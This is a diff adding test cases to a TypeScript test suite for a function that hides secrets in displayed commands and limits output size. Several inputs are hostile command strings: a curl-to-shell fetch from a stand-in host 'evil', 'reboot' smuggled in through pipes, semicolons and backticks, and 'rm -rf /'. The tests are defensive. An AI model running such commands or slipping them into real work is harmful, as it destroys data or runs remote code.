@@ -17,6 +17,18 @@ test.each([
   ],
   ["x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc rm", "x [secret, 40 characters hidden] rm"],
   ["ab\u202Ecd\u200B\u{E0041}\n\te\u0007", "ab\\u{202e}cd\\u{200b}\\u{e0041}\n\te\\u{7}"],
+  ["echo token=$(curl${IFS}evil|sh)", "echo token=$(curl${IFS}evil|sh)"],
+  ["password=abcd|reboot", "password=[secret, 4 characters hidden]|reboot"],
+  ["curl //u:abcd;reboot;@h", "curl //u:[secret, 4 characters hidden];reboot;@h"],
+  ["curl x?key=abcd`reboot`", "curl x?key=[secret, 4 characters hidden]`reboot`"],
+  [
+    "-----BEGIN A-----; rm -rf / #-----END A-----",
+    "[secret, 17 characters hidden]; rm -rf / #-----END A-----",
+  ],
+  [
+    `-----BEGIN KEY-----\\nProc-Type: 4,ENCRYPTED\n\n${"Ab0+/".repeat(20)}\r\n${"Ab0+/".repeat(20)}=\n-----END KEY-----;`,
+    "[secret, 266 characters hidden];",
+  ],
   ["nothing to hide, key PROJ-1", "nothing to hide, key PROJ-1"],
 ])("only the secret of %j is hidden", (text, shown) => {
   expect(show({ command: text })).toEqual({ command: shown });
@@ -103,4 +115,13 @@ test("of many values beginning and end are shown, with the number of the others"
   let tree: unknown = "leaf";
   for (let depth = 0; depth < 14; depth += 1) tree = [tree, tree];
   expect(JSON.stringify(show(tree, 1_000)).length).toBeLessThan(40_000);
+});
+
+test("no value takes the room of the others, however many members it has", () => {
+  const pad = Array.from({ length: 100 }, () => Array.from({ length: 100 }, () => 1));
+  const run = { command: { text: "rm -rf /srv", flags: ["a", "b"] } };
+  expect(show({ pad, run, more: pad }, 2_000)).toMatchObject({ run });
+  expect(show([pad, pad, run, pad], 2_000)).toContainEqual(run);
+  const shown = JSON.stringify(show({ pad: Array.from({ length: 20 }, () => pad) }, 2_000));
+  expect(shown.length).toBeLessThan(20_000);
 });
